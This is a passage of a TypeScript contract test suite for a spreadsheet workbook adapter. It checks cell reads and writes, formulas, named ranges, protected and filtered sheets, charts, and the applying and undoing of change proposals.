import assert from 'node:assert/strict';
import type { Area } from '../../src/sheet/address';
import type { ChartDraft } from '../../src/sheet/chart-draft';
import type { CellInput, SheetDraft } from '../../src/sheet/draft';
import type { Proposal } from '../../src/jobs/proposal';
import { applyProposal } from '../../src/workbook/apply';
import { BasisChanged, TakeBackConflict } from '../../src/workbook/apply-errors';
import type { AreaContent, NameInfo, TableInfo, WorkbookPort } from '../../src/workbook/port';
import { area, plain, refuses, test, type ContractCase } from './contract-case';
import { tableContract } from './contract-tables';
import { contractWorkbook } from './contract-workbook';

/**
 * What every adapter of the workbook port owes, one case each on a fresh `contractWorkbook`; none leaves a case out. The
 * cases use nothing but the port, so that a workbook in a browser can be tested through a proxy. An error may cross that
 * proxy as a plain object: only its `code` and `place` are looked at.
 */
export const contract: readonly ContractCase[] = [
  test('lists the sheets in the order of their tabs, hidden ones too', async (port) => {
    const sheets = await port.listSheets();
    assert.deepEqual(
      plain(sheets.map(({ name, visible }) => [name, visible])),
      contractWorkbook.sheets.map(({ name, hidden }) => [name, !hidden]),
    );
  }),
  test('says which sheets are protected', async (port) => {
    const locked = (await port.listSheets()).filter((sheet) => sheet.protected);
    assert.deepEqual(plain(locked.map(({ name }) => name)), ['Locked']);
  }),
  test('lists the tables in the order of sheets, with headings in the area', async (port) => {
    const tables = contractWorkbook.tables!.map(({ name, area: cells, totals }) => ({
      name,
      area: cells,
      ...(totals && { totals }),
    }));
    const listed = plain(await port.listTables()) as readonly TableInfo[];
    assert.deepEqual(
      listed.map((table) => table.area.sheet),
      tables.map((table) => table.area.sheet),
    );
    const sorted = (all: typeof listed) => plain([...all].sort((a, b) => (a.name < b.name ? -1 : 1)));
    assert.deepEqual(sorted(listed), sorted(tables));
  }),

  test('lists the names of cells', async (port) => {
    assert.deepEqual(named(await port.listNames()), named(contractWorkbook.names ?? []));
    assert.deepEqual((await port.read((await port.listNames()).find(({ name }) => name === 'Amounts')!.area)).values, [
      [10],
      [20],
      [30],
    ]);
  }),
  test('computes formulas that refer to names, and names to cells that are replaced', async (port) => {
    const target = area('Empty', 0, 0, 1, 2);
    await port.write(target, [[{ formula: '=SUM(Amounts)' }, { formula: '=年度目标*2' }]]);
    assert.deepEqual((await port.read(target)).values, [[60, 246913578.24691358]]);
    await port.write(area('销售 2017', 1, 1, 3, 1), [[1], [2], [3]]);
    await port.write(area('Orders', 4, 2, 1, 1), [[{ formula: '=4+1' }]]);
    assert.deepEqual((await port.read(target)).values, [[6, 10]]);
    assert.deepEqual((await port.read(target)).formulas, [['=SUM(Amounts)', '=年度目标*2']]);
    assert.deepEqual(named(await port.listNames()), named(contractWorkbook.names ?? []));
  }),
  test('applies and takes back over named cells and formulas that refer to them: names and formulas are as before', async (port) => {
    const made = await proposal(port);
    await port.write(area('Orders', 4, 4, 1, 1), [[{ formula: '=SUM(Amounts)' }]]);
    const before = await snapshot(port);
    const changes = [
      ...made.changes,
      { area: area('销售 2017', 1, 1, 3, 1), cells: [[100], [{ formula: '=年度目标' }], [null]] },
    ];
    const sheets = [{ name: 'Named', cells: [[{ formula: '=SUM(Amounts)-100-年度目标' }]] }];
    const applied = await applyProposal(port, { ...made, changes, sheets });
    assert.deepEqual((await port.read(area('Named', 0, 0, 1, 1))).values, [[0]]);
    assert.deepEqual(named(await port.listNames()), named(contractWorkbook.names ?? []));
    await applied.takeBack();
    assert.deepEqual(await snapshot(port), before);
    assert.deepEqual(named(await port.listNames()), named(contractWorkbook.names ?? []));
    assert.deepEqual((await port.read(area('Orders', 4, 4, 1, 1))).formulas, [['=SUM(Amounts)']]);
  }),
  test('lists no name whose cells went with their sheet', async (port) => {
    await port.removeSheet('销售 2017');
    assert.deepEqual(named(await port.listNames()), named([contractWorkbook.names![1]!]));
  }),

  test('reads numbers unrounded, whatever their format shows', async (port) => {
    const content = await port.read(area('Orders', 3, 2, 2, 1));
    assert.deepEqual(content.values, [[0.30000000000000004], [123456789.12345679]]);
  }),
  test('reads dates as serials, with their number format', async (port) => {
    const content = await port.read(area('Orders', 3, 1, 4, 1));
    assert.deepEqual(content.values, [[42767], [42768], [null], [42770.5]]);
    assert.deepEqual(content.numberFormats, [['yyyy-mm-dd'], ['yyyy-mm-dd'], ['yyyy-mm-dd'], ['yyyy-mm-dd']]);
  }),
  test('reads texts, booleans and texts that look like numbers as what they are', async (port) => {
    const content = await port.read(area('Orders', 3, 3, 4, 1));
    assert.deepEqual(content.values, [['north'], ['007'], [true], ['total']]);
    assert.deepEqual(content.numberFormats, [['General'], ['General'], ['General'], ['General']]);
  }),
  test('reads blanks as null and answers the shape that was asked for, beyond the content too', async (port) => {
    const content = await port.read(area('Orders', 5, 0, 3, 2));
    assert.deepEqual(content.values, [
      [null, null],
      [null, 42770.5],
      [null, null],
    ]);
    assert.deepEqual(content.formulas, grid(3, 2, null));
    assert.deepEqual(plain(content.area), area('Orders', 5, 0, 3, 2));
  }),
  test('names the hidden rows, by hand and by the filter of a sheet or a table, and reads them all the same', async (port) => {
    assert.deepEqual(plain(await port.hiddenRows(area('Filtered', 0, 0, 6, 2))), [2, 5]);
    assert.deepEqual(plain(await port.hiddenRows(area('Filtered', 3, 1, 3, 1))), [5]);
    assert.deepEqual(plain(await port.hiddenRows(area('TableFiltered', 0, 0, 3, 2))), [2]);
    assert.deepEqual(plain(await port.hiddenRows(area('Orders', 0, 0, 9, 5))), []);
    assert.deepEqual((await port.read(area('Filtered', 5, 1, 1, 1))).values, [[4]]);
  }),
  test('names the pictures over the cells of a sheet, with the cells under them', async (port) => {
    const { drawings } = contractWorkbook.sheets.find(({ name }) => name === 'Merged')!;
    assert.deepEqual(plain(await port.drawings('Merged')), drawings);
    assert.deepEqual(plain(await port.drawings('Orders')), []);
  }),
  test('names the merged areas that begin in an area, each whole', async (port) => {
    const [owner, title] = [area('Merged', 4, 0, 2, 1), area('Merged', 0, 0, 1, 2)];
    assert.deepEqual(plain(await port.mergedAreas(area('Merged', 0, 0, 9, 3))), [title, owner]);
    assert.deepEqual(plain(await port.mergedAreas(area('Merged', 4, 0, 1, 1))), [owner]);
    assert.deepEqual(plain(await port.mergedAreas(area('Merged', 5, 0, 2, 1))), []);
    assert.deepEqual(plain(await port.mergedAreas(area('Orders', 0, 0, 9, 9))), []);
  }),
  test('names the cells that are indented, and how far', async (port) => {
    const indents = [
      { row: 4, column: 1, level: 1 },
      { row: 5, column: 1, level: 2 },
    ];
    assert.deepEqual(plain(await port.indents(area('Merged', 0, 0, 7, 2))), indents);
    assert.deepEqual(plain(await port.indents(area('Merged', 5, 0, 1, 2))), indents.slice(1));
    assert.deepEqual(plain(await port.indents(area('Merged', 0, 0, 4, 2))), []);
  }),
  test('counts days from 1900', async (port) => {
    assert.equal(await port.countsFrom1904(), false);
  }),
  test('reads errors as errors, typed in or computed', async (port) => {
    assert.deepEqual((await port.read(area('Orders', 5, 4, 2, 1))).values[0], [{ error: '#DIV/0!' }]);
    assert.deepEqual((await port.read(area('Orders', 6, 2, 1, 1))).values, [[{ error: '#N/A' }]]);
  }),
  test('reads formulas beside their values', async (port) => {
    const content = await port.read(area('Orders', 3, 2, 2, 3));
    assert.deepEqual(content.formulas, [
      [null, null, '=C4*2'],
      [null, null, '=C5*2'],
    ]);
    assert.deepEqual(
      content.values.map((row) => row[2]),
      [0.6000000000000001, 246913578.24691358],
    );
    assert.deepEqual(content.spills, []);
  }),
  test('reads spilled cells with their values, without a formula, and names the spill', async (port) => {
    const whole = await port.read(area('Spill', 0, 0, 5, 3));
    assert.deepEqual(
      whole.values.map((row) => row[0]),
      ['n', 1, 2, 3, 'end'],
    );
    assert.deepEqual(
      whole.formulas.map((row) => row[0]),
      [null, '=SEQUENCE(3)', null, null, null],
    );
    assert.equal(whole.values[1]?.[2], 6);
    assert.deepEqual(plain(whole.spills), [area('Spill', 1, 0, 3, 1)]);
  }),
  test('names a spill whole when only its end is read', async (port) => {
    const part = await port.read(area('Spill', 3, 0, 2, 2));
    assert.deepEqual(part.values, [
      [3, null],
      ['end', null],
    ]);
    assert.deepEqual(part.formulas, grid(2, 2, null));
    assert.deepEqual(plain(part.spills), [area('Spill', 1, 0, 3, 1)]);
  }),
  test('finds a used area that starts away from A1, and none on an empty sheet', async (port) => {
    assert.deepEqual(plain(await port.usedArea('Orders')), area('Orders', 2, 1, 5, 4));
    assert.equal(await port.usedArea('Empty'), null);
  }),
  test('counts neither a format nor emptied cells as used', async (port) => {
    await port.format(area('Empty', 9, 9, 1, 1), '0.00');
    await port.write(area('Empty', 4, 4, 1, 2), [['gone', 'stays']]);
    await port.write(area('Empty', 4, 4, 1, 1), [[null]]);
    assert.deepEqual(plain(await port.usedArea('Empty')), area('Empty', 4, 5, 1, 1));
  }),
  test('refuses a sheet that is not there, by its name', async (port) => {
    const nowhere = area('Nowhere', 0, 0, 1, 1);
    await refuses(port.read(nowhere), 'sheet-not-found', 'Nowhere');
    await refuses(port.usedArea('Nowhere'), 'sheet-not-found', 'Nowhere');
    await refuses(port.drawings('Nowhere'), 'sheet-not-found', 'Nowhere');
    await refuses(port.mergedAreas(nowhere), 'sheet-not-found', 'Nowhere');
    await refuses(port.indents(nowhere), 'sheet-not-found', 'Nowhere');
    await refuses(port.write(nowhere, [[1]]), 'sheet-not-found', 'Nowhere');
    await refuses(port.format(nowhere, '0'), 'sheet-not-found', 'Nowhere');
    await refuses(port.show(nowhere), 'sheet-not-found', 'Nowhere');
    await refuses(port.removeSheet('Nowhere'), 'sheet-not-found', 'Nowhere');
  }),

  test('writes numbers, texts, booleans, errors and blanks, and reads the same', async (port) => {
    const cells = [
      [1 / 3, -0.1, 1e300, 9007199254740991],
      ['text', '达成率', true, false],
      [{ error: '#N/A' }, { error: '#DIV/0!' }, null, 0],
    ];
    const target = area('Empty', 1, 1, 3, 4);
    await port.write(target, cells);
    const content = await port.read(target);
    assert.deepEqual(content.values, cells);
    assert.deepEqual(content.formulas, grid(3, 4, null));
  }),
  test('keeps a text a text, whatever it looks like', async (port) => {
    const target = area('Empty', 0, 0, texts.length, 1);
    await port.write(
      target,
      texts.map((text) => [text]),
    );
    const content = await port.read(target);
    assert.deepEqual(
      content.values.map((row) => row[0]),
      texts,
    );
    assert.deepEqual(content.formulas, grid(texts.length, 1, null));
  }),
  test('writes a formula that stays a formula and computes', async (port) => {
    const target = area('Empty', 0, 0, 1, 3);
    await port.write(target, [[2, { formula: '=A1*21' }, { formula: "=SUM('销售 2017'!B2:B4)" }]]);
    const content = await port.read(target);
    assert.deepEqual(content.formulas, [[null, '=A1*21', "=SUM('销售 2017'!B2:B4)"]]);
    assert.deepEqual(content.values, [[2, 42, 60]]);
    await port.write(area('Empty', 0, 0, 1, 1), [[3]]);
    assert.deepEqual((await port.read(target)).values, [[3, 63, 60]]);
  }),
  test('writes an array formula into one cell, from where it spills', async (port) => {
    await port.write(area('Empty', 1, 1, 1, 1), [[{ formula: '=SEQUENCE(2)' }]]);
    const content = await port.read(area('Empty', 0, 0, 4, 3));
    assert.deepEqual(
      content.values.map((row) => row[1]),
      [null, 1, 2, null],
    );
    assert.deepEqual(plain(content.spills), [area('Empty', 1, 1, 2, 1)]);
  }),
  test('empties cells with null and with an empty text, formulas too', async (port) => {
    const target = area('Orders', 3, 2, 2, 3);
    await port.write(target, [
      [null, '', null],
      ['', null, ''],
    ]);
    const content = await port.read(target);
    assert.deepEqual(content.values, grid(2, 3, null));
    assert.deepEqual(content.formulas, grid(2, 3, null));
  }),
  test('replaces a formula by a value and keeps number formats', async (port) => {
    await port.format(area('Orders', 3, 4, 2, 1), '0.0%');
    await port.write(area('Orders', 3, 4, 2, 1), [[0.5], [0.25]]);
    const content = await port.read(area('Orders', 3, 4, 2, 1));
    assert.deepEqual(content.values, [[0.5], [0.25]]);
    assert.deepEqual(content.formulas, grid(2, 1, null));
    assert.deepEqual(content.numberFormats, grid(2, 1, '0.0%'));
  }),
  test('writes a formula that works into cells formatted as text', async (port) => {
    await port.format(area('Empty', 0, 0, 1, 2), '@');
    await port.write(area('Empty', 0, 0, 1, 2), [[{ formula: '=1+1' }, '12']]);
    const content = await port.read(area('Empty', 0, 0, 1, 2));
    assert.deepEqual(content.values, [[2, '12']]);
    assert.deepEqual(content.formulas, [['=1+1', null]]);
  }),
  test('keeps numbers, truth values and errors what they are in cells formatted as text, and the format too', async (port) => {
    await port.format(area('Empty', 0, 0, 1, 4), '@');
    const cells = [[1.5, true, { error: '#N/A' }, '12']];
    await port.write(area('Empty', 0, 0, 1, 4), cells);
    const content = await port.read(area('Empty', 0, 0, 1, 4));
    assert.deepEqual(content.values, cells);
    assert.deepEqual(content.numberFormats, grid(1, 4, '@'));
  }),
  test('writes and reads more than 20,000 cells', async (port) => {
    const tall = area('Empty', 2, 1, 5100, 4);
    const cells = Array.from({ length: tall.rows }, (_, row) => [row / 7, `row ${row}`, row % 2 === 0, null]);
    await port.write(tall, cells);
    const content = await port.read(tall);
    assert.deepEqual(content.values, cells);
    assert.equal(content.numberFormats.length, 5100);
    assert.deepEqual(plain(await port.usedArea('Empty')), area('Empty', 2, 1, 5100, 3));
  }),
  test('writes and reads an area wider than it is tall', async (port) => {
    const wide = area('Empty', 0, 0, 3, 700);
    const cells = Array.from({ length: 3 }, (_, row) =>
      Array.from({ length: 700 }, (_, column) => row * 1000 + column),
    );
    await port.write(wide, cells);
    assert.deepEqual((await port.read(wide)).values, cells);
  }),
  test('refuses cells whose shape differs from the area and writes nothing', async (port) => {
    const target = area('Empty', 0, 0, 2, 2);
    await refuses(port.write(target, [[1, 2]]), 'shape-differs', 'Empty');
    await refuses(port.write(target, [[1, 2], [3]]), 'shape-differs', 'Empty');
    assert.equal(await port.usedArea('Empty'), null);
  }),
  test('refuses what no cell can hold and writes nothing', async (port) => {
    const pair = area('Empty', 0, 0, 1, 2);
    await refuses(port.write(pair, [[1, 'x'.repeat(32768)]]), 'value-refused', 'Empty!B1');
    await refuses(port.write(pair, [[1, { formula: 'SUM(A1)' }]]), 'value-refused', 'Empty!B1');
    await refuses(port.write(pair, [[1, { formula: `=${'1+'.repeat(4096)}1` }]]), 'value-refused', 'Empty!B1');
    assert.equal(await port.usedArea('Empty'), null);
  }),
  test('reads and writes a hidden sheet, which stays hidden', async (port) => {
    await port.write(area('Hidden', 1, 0, 1, 2), [[7, { formula: '=A2*6' }]]);
    assert.deepEqual((await port.read(area('Hidden', 0, 0, 2, 2))).values, [
      ['secret', null],
      [7, 42],
    ]);
    const hidden = (await port.listSheets()).filter(({ visible }) => !visible);
    assert.deepEqual(plain(hidden.map(({ name }) => name)), ['Hidden']);
  }),
  test('writes below and beside a table, which neither grows nor loses a cell', async (port) => {
    const before = await port.read(area('销售 2017', 0, 0, 4, 3));
    const tables = plain(await port.listTables());
    await port.write(area('销售 2017', 4, 0, 1, 3), [['华中', 40, 4]]);
    await port.write(area('销售 2017', 0, 3, 4, 1), [['备注'], ['a'], ['b'], ['c']]);
    assert.deepEqual(plain(await port.listTables()), tables);
    assert.deepEqual(await port.read(area('销售 2017', 0, 0, 4, 3)), before);
    assert.deepEqual((await port.read(area('销售 2017', 3, 0, 2, 4))).values, [
      ['华南', 30, 3, 'c'],
      ['华中', 40, 4, null],
    ]);
  }),
  test('reads and writes far down a very long sheet', async (port) => {
    const low = area('Empty', 899_998, 1, 2, 2);
    const cells = [
      ['last but one', 1],
      ['last', 2],
    ];
    await port.write(area('Empty', 0, 0, 1, 1), [['first']]);
    await port.write(low, cells);
    assert.deepEqual((await port.read(low)).values, cells);
    assert.deepEqual(plain(await port.usedArea('Empty')), area('Empty', 0, 0, 900_000, 3));
  }),
  test('goes on computing after a write that was refused', async (port) => {
    const target = area('Empty', 0, 0, 1, 2);
    await port.write(target, [[2, { formula: '=A1*21' }]]);
    await refuses(port.write(area('Locked', 0, 0, 1, 1), [[1]]), 'sheet-protected', 'Locked');
    await refuses(port.write(target, [[1]]), 'shape-differs', 'Empty');
    await port.write(area('Empty', 0, 0, 1, 1), [[3]]);
    assert.deepEqual((await port.read(target)).values, [[3, 63]]);
  }),
  test('refuses to write on a protected sheet', async (port) => {
    await refuses(port.write(area('Locked', 5, 5, 1, 1), [[1]]), 'sheet-protected', 'Locked');
    await refuses(port.format(area('Locked', 0, 0, 1, 1), '0'), 'sheet-protected', 'Locked');
    assert.deepEqual(plain(await port.usedArea('Locked')), area('Locked', 0, 0, 1, 2));
  }),
  test('refuses to write over merged cells, even a part of them, and writes beside them', async (port) => {
    const before = await port.read(area('Merged', 0, 0, 3, 2));
    await refuses(port.write(area('Merged', 0, 1, 3, 1), [[1], [2], [3]]), 'cells-merged', 'Merged');
    assert.deepEqual(await port.read(area('Merged', 0, 0, 3, 2)), before);
    await port.write(area('Merged', 1, 0, 1, 2), [['c', 'd']]);
    assert.deepEqual((await port.read(area('Merged', 1, 0, 1, 2))).values, [['c', 'd']]);
  }),
  test('refuses to write in the rows of a filtered area, in any column, and writes below', async (port) => {
    const before = await port.read(area('Filtered', 0, 0, 6, 4));
    await refuses(port.write(area('Filtered', 2, 1, 1, 1), [[9]]), 'cells-filtered', 'Filtered');
    await refuses(port.write(area('Filtered', 3, 3, 2, 1), [[9], [9]]), 'cells-filtered', 'Filtered');
    assert.deepEqual(await port.read(area('Filtered', 0, 0, 6, 4)), before);
    await port.write(area('Filtered', 4, 0, 1, 2), [['free', 5]]);
    assert.deepEqual((await port.read(area('Filtered', 4, 0, 1, 2))).values, [['free', 5]]);
  }),
  test('refuses to write in the rows of a filtered table', async (port) => {
    await refuses(port.write(area('TableFiltered', 1, 5, 1, 1), [[9]]), 'cells-filtered', 'TableFiltered');
    await port.write(area('TableFiltered', 3, 0, 1, 1), [[9]]);
    assert.deepEqual((await port.read(area('TableFiltered', 3, 0, 1, 1))).values, [[9]]);
  }),
  test('reads a filtered area whole, hidden rows in their place', async (port) => {
    const content = await port.read(area('Filtered', 0, 0, 4, 2));
    assert.deepEqual(content.values, [
      ['k', 'v'],
      ['x', 1],
      ['y', 2],
      ['x', 3],
    ]);
  }),
  test('sets a number format and leaves the values', async (port) => {
    await port.format(area('Orders', 3, 2, 2, 1), '0.000');
    const content = await port.read(area('Orders', 3, 1, 2, 2));
    assert.deepEqual(content.numberFormats, [
      ['yyyy-mm-dd', '0.000'],
      ['yyyy-mm-dd', '0.000'],
    ]);
    assert.deepEqual(content.values, [
      [42767, 0.30000000000000004],
      [42768, 123456789.12345679],
    ]);
  }),

  test('keeps a text a text on a sheet that is added, whatever it looks like', async (port) => {
    const name = await port.addSheet({ name: 'Texts', cells: texts.map((text) => [text]) });
    const content = await port.read(area(name, 0, 0, texts.length, 1));
    assert.deepEqual(
      content.values.map((row) => row[0]),
      texts,
    );
    assert.deepEqual(content.formulas, grid(texts.length, 1, null));
  }),
  test('adds a sheet at the end, fills it and shows it', async (port) => {
    const name = await port.addSheet({
      name: 'Plan',
      cells: [['Region', 'Target'], ['North', 40], [], ['Total', { formula: '=SUM(B2:B2)' }, null, 'note']],
      formats: [{ row: 1, column: 1, rows: 3, columns: 1, format: '#,##0.00' }],
      columnWidths: [20, 12],
      boldRows: [0, 3],
      frozenRows: 1,
    });
    assert.equal(name, 'Plan');
    const sheets = await port.listSheets();
    assert.deepEqual(plain(sheets.at(-1)), { name: 'Plan', visible: true, protected: false });
    assert.equal((await port.selection()).sheet, 'Plan');
    assert.deepEqual(plain(await port.usedArea('Plan')), area('Plan', 0, 0, 4, 4));
    const content = await port.read(area('Plan', 0, 0, 4, 4));
    assert.deepEqual(content.values, [
      ['Region', 'Target', null, null],
      ['North', 40, null, null],
      [null, null, null, null],
      ['Total', 40, null, 'note'],
    ]);
    assert.equal(content.formulas[3]?.[1], '=SUM(B2:B2)');
    assert.deepEqual(
      content.numberFormats.map((row) => row[1]),
      ['General', '#,##0.00', '#,##0.00', '#,##0.00'],
    );
  }),
  test('adds an empty sheet', async (port) => {
    assert.equal(await port.addSheet({ name: 'Bare', cells: [] }), 'Bare');
    assert.equal(await port.usedArea('Bare'), null);
  }),
  test('adds a sheet of more than 20,000 cells', async (port) => {
    const cells = Array.from({ length: 7000 }, (_, row) => [row, `r${row}`, row / 3]);
    const name = await port.addSheet({ name: 'Big', cells });
    assert.deepEqual((await port.read(area(name, 0, 0, 7000, 3))).values, cells);
  }),
  test('numbers the name of a sheet that is taken, large and small letters alike', async (port) => {
    assert.equal(await port.addSheet({ name: 'orders', cells: [] }), 'orders (2)');
    assert.equal(await port.addSheet({ name: 'Orders', cells: [] }), 'Orders (3)');
    assert.equal((await port.listSheets()).length, contractWorkbook.sheets.length + 2);
  }),
  test('makes a sheet name fit for Excel', async (port) => {
    assert.equal(await port.addSheet({ name: "'Plan: 2017/18 [v1]?'", cells: [] }), 'Plan- 2017-18 -v1--');
    const long = '销售目标'.repeat(9);
    assert.equal(await port.addSheet({ name: long, cells: [] }), long.slice(0, 31));
    assert.equal(await port.addSheet({ name: long, cells: [] }), `${long.slice(0, 27)} (2)`);
  }),
  test('refuses a sheet without a name and adds none', async (port) => {
    await refuses(port.addSheet({ name: " ' ", cells: [['x']] }), 'name-refused');
    assert.equal((await port.listSheets()).length, contractWorkbook.sheets.length);
  }),
  test('adds no sheet when its cells are refused', async (port) => {
    const cells = [['fine'], ['x'.repeat(32768)]];
    await refuses(port.addSheet({ name: 'Never', cells }), 'value-refused', 'Never!A2');
    assert.equal((await port.listSheets()).length, contractWorkbook.sheets.length);
  }),
  test('removes a sheet', async (port) => {
    const name = await port.addSheet({ name: 'Plan', cells: [['x']] });
    await port.removeSheet(name);
    assert.deepEqual(
      plain((await port.listSheets()).map((sheet) => sheet.name)),
      contractWorkbook.sheets.map((sheet) => sheet.name),
    );
    assert.equal(await port.addSheet({ name: 'Plan', cells: [] }), 'Plan');
  }),

  test('adds a sheet with a look, a page and charts, and lists the charts', async (port) => {
    const name = await port.addSheet({ ...charted, charts: [bars, bridge] });
    assert.deepEqual(byName(await port.listCharts(name)), byName([bars, bridge]));
    assert.deepEqual((await port.read(area(name, 1, 1, 1, 1))).numberFormats, [['#,##0']]);
    assert.deepEqual(plain(await port.listCharts('Orders')), []);
  }),
  test('draws a chart on a sheet, replaces it by its name, and removes it', async (port) => {
    await port.putChart('销售 2017', bars);
    await port.putChart('销售 2017', bridge);
    const renamed = { ...bars, title: '各地区：目标 <100> & "实际"' };
    await port.putChart('销售 2017', renamed);
    assert.deepEqual(byName(await port.listCharts('销售 2017')), byName([bridge, renamed]));
    await port.removeChart('销售 2017', bridge.name);
    await port.removeChart('销售 2017', 'never there');
    assert.deepEqual(plain(await port.listCharts('销售 2017')), [renamed]);
  }),
  test('refuses charts and looks on a protected sheet and on one that is not there', async (port) => {
    await refuses(port.putChart('Locked', bars), 'sheet-protected', 'Locked');
    await refuses(port.removeChart('Locked', 'any'), 'sheet-protected', 'Locked');
    await refuses(port.dress('Locked', {}), 'sheet-protected', 'Locked');
    await refuses(port.putChart('Nowhere', bars), 'sheet-not-found', 'Nowhere');
    await refuses(port.listCharts('Nowhere'), 'sheet-not-found', 'Nowhere');
    assert.deepEqual(plain(await port.listCharts('Locked')), []);
  }),
  test('removes charts with their sheet: one of the same name starts anew', async (port) => {
    const name = await port.addSheet({ ...charted, charts: [bars] });
    await port.removeSheet(name);
    assert.equal(await port.addSheet(charted), name);
    assert.deepEqual(plain(await port.listCharts(name)), []);
  }),
  test('dresses a sheet anew: the formats it had are gone, cells and charts stay', async (port) => {
    const name = await port.addSheet({ ...charted, charts: [bars] });
    await port.dress(name, { formats: [{ row: 2, column: 1, rows: 1, columns: 1, format: '0.00' }] });
    const content = await port.read(area(name, 0, 0, 3, 2));
    assert.deepEqual(
      content.numberFormats.map((row) => row[1]),
      ['General', 'General', '0.00'],
    );
    assert.deepEqual(content.values, charted.cells);
    assert.deepEqual(plain(await port.listCharts(name)), [bars]);
  }),

  test('knows the selection, and shows another', async (port) => {
    assert.deepEqual(plain(await port.selection()), contractWorkbook.selection);
    await port.show(area('Merged', 1, 0, 2, 1));
    assert.deepEqual(plain(await port.selection()), area('Merged', 1, 0, 2, 1));
  }),
  test('tells of a new selection until it is stopped', async (port) => {
    const seen: Area[] = [];
    const stop = await port.onSelection((selected) => seen.push(selected));
    await port.show(area('Orders', 3, 1, 2, 2));
    await until(() => seen.length > 0);
    assert.deepEqual(plain(seen.at(-1)), area('Orders', 3, 1, 2, 2));
    await port.show(area('Merged', 1, 0, 1, 1));
    await until(() => seen.at(-1)?.sheet === 'Merged');
    await stop();
    const count = seen.length;
    const probe: Area[] = [];
    const stopProbe = await port.onSelection((selected) => probe.push(selected));
    await port.show(area('Orders', 4, 1, 1, 1));
    await until(() => probe.length > 0);
    await stopProbe();
    assert.equal(seen.length, count);
  }),
  test('writes within an undo step, and ends none without harm', async (port) => {
    await port.endUndoStep();
    await port.beginUndoStep();
    await port.write(area('Empty', 0, 0, 1, 1), [[1]]);
    const name = await port.addSheet({ name: 'Plan', cells: [[2]] });
    await refuses(port.write(area('Nowhere', 0, 0, 1, 1), [[1]]), 'sheet-not-found', 'Nowhere');
    await port.write(area(name, 0, 0, 1, 1), [[3]]);
    await port.endUndoStep();
    assert.deepEqual((await port.read(area('Empty', 0, 0, 1, 1))).values, [[1]]);
    assert.deepEqual((await port.read(area(name, 0, 0, 1, 1))).values, [[3]]);
  }),

  test('applies a proposal from start to end', async (port) => {
    const applied = await applyProposal(port, await proposal(port));
    assert.deepEqual(applied.sheets, ['Orders (2)', 'Plan']);
    assert.deepEqual((await port.read(area('Orders (2)', 0, 0, 1, 2))).values, [['copy', 3]]);
    assert.deepEqual((await port.read(area('Orders', 3, 4, 2, 1))).values, [[60], ['done']]);
  }),
  test('takes a proposal back: cells, formulas, number formats and sheets are as before', async (port) => {
    const before = await snapshot(port);
    const applied = await applyProposal(port, await proposal(port));
    assert.notDeepEqual(await snapshot(port), before);
    await applied.takeBack();
    assert.deepEqual(await snapshot(port), before);
    await applied.takeBack();
    assert.deepEqual(await snapshot(port), before);
  }),
  test('applies nothing when the basis was edited meanwhile, and names sheet and rows', async (port) => {
    const made = await proposal(port);
    await port.write(area('Orders', 3, 2, 1, 1), [[0.3]]);
    await port.write(area('Orders', 5, 2, 1, 1), [[null]]);
    const before = await snapshot(port);
    await assert.rejects(applyProposal(port, made), (error) => {
      assert.ok(error instanceof BasisChanged);
      assert.deepEqual(error.places, [{ sheet: 'Orders', rows: [4, 6] }]);
      return true;
    });
    assert.deepEqual(await snapshot(port), before);
  }),
  test('applies nothing when a table grew since it was read, and names its new rows', async (port) => {
    // as it was read while the table ended two rows above
    const [body, below] = [area('销售 2017', 1, 1, 1, 1), area('销售 2017', 2, 0, 1, 3)];
    const basis = [
      { area: body, values: (await port.read(body)).values },
      { area: below, values: [[null, null, null]], below: true },
    ];
    const before = await snapshot(port);
    await assert.rejects(applyProposal(port, { ...(await proposal(port)), basis }), (error) => {
      assert.ok(error instanceof BasisChanged);
      assert.deepEqual(error.places, [{ sheet: '销售 2017', rows: [3, 4] }]);
      assert.deepEqual(error.cells[0], { address: "'销售 2017'!A3", was: null, now: '华北', wouldBe: undefined });
      return true;
    });
    assert.deepEqual(await snapshot(port), before);
  }),
  test('applies beside a table that ends where it did, whatever stands further below', async (port) => {
    const below = area('销售 2017', 4, 0, 1, 3);
    await port.write(area('销售 2017', 5, 0, 1, 1), [['a note']]);
    const basis = [{ area: below, values: [[null, null, null]], below: true }];
    const applied = await applyProposal(port, { ...(await proposal(port)), basis });
    assert.deepEqual(applied.sheets, ['Orders (2)', 'Plan']);
  }),
  test('puts all back after an error in the middle', async (port) => {
    const made = await proposal(port);
    const before = await snapshot(port);
    const broken = { ...made, changes: [...made.changes, { area: area('Locked', 0, 0, 1, 1), cells: [[1]] }] };
    await refuses(applyProposal(port, broken), 'sheet-protected', 'Locked');
    assert.deepEqual(await snapshot(port), before);
  }),
  test('does not take back over the edits of someone else, unless told to', async (port) => {
    const before = await snapshot(port);
    const applied = await applyProposal(port, await proposal(port));
    await port.write(area('Orders', 4, 4, 1, 1), [['mine']]);
    await port.write(area('Plan', 5, 1, 1, 1), [['mine']]);
    const edited = await snapshot(port);
    await assert.rejects(applied.takeBack(), (error) => {
      assert.ok(error instanceof TakeBackConflict);
      assert.deepEqual(error.places, ['Orders!E5', 'Plan!B6']);
      return true;
    });
    assert.deepEqual(await snapshot(port), edited);
    await applied.takeBack({ edits: 'overwrite' });
    assert.deepEqual(await snapshot(port), before);
  }),
  test('takes back around the edits of someone else when told to keep them', async (port) => {
    const applied = await applyProposal(port, await proposal(port));
    await port.write(area('Orders', 4, 4, 1, 1), [['mine']]);
    await port.write(area('Plan', 5, 1, 1, 1), [['mine']]);
    await applied.takeBack({ edits: 'keep' });
    const content = await port.read(area('Orders', 3, 4, 2, 1));
    assert.deepEqual(content.formulas, [['=C4*2'], [null]]);
    assert.equal(content.values[1]?.[0], 'mine');
    const names = (await port.listSheets()).map((sheet) => sheet.name);
    assert.deepEqual(plain(names), [...contractWorkbook.sheets.map((sheet) => sheet.name), 'Plan']);
  }),
  test('takes a computed value that changed for no edit', async (port) => {
    const before = await snapshot(port);
    const applied = await applyProposal(port, await proposal(port));
    await port.write(area('销售 2017', 1, 1, 1, 1), [[1000]]);
    await applied.takeBack();
    await port.write(area('销售 2017', 1, 1, 1, 1), [[10]]);
    assert.deepEqual(await snapshot(port), before);
  }),
  test('takes back what was written over a spill, and it spills again', async (port) => {
    const before = await snapshot(port);
    const changes = [{ area: area('Spill', 2, 0, 1, 1), cells: [['in the way']] }];
    const applied = await applyProposal(port, { basis: [], sheets: [], changes });
    assert.equal((await port.read(area('Spill', 2, 0, 1, 1))).values[0]?.[0], 'in the way');
    await applied.takeBack();
    assert.deepEqual(await snapshot(port), before);
  }),

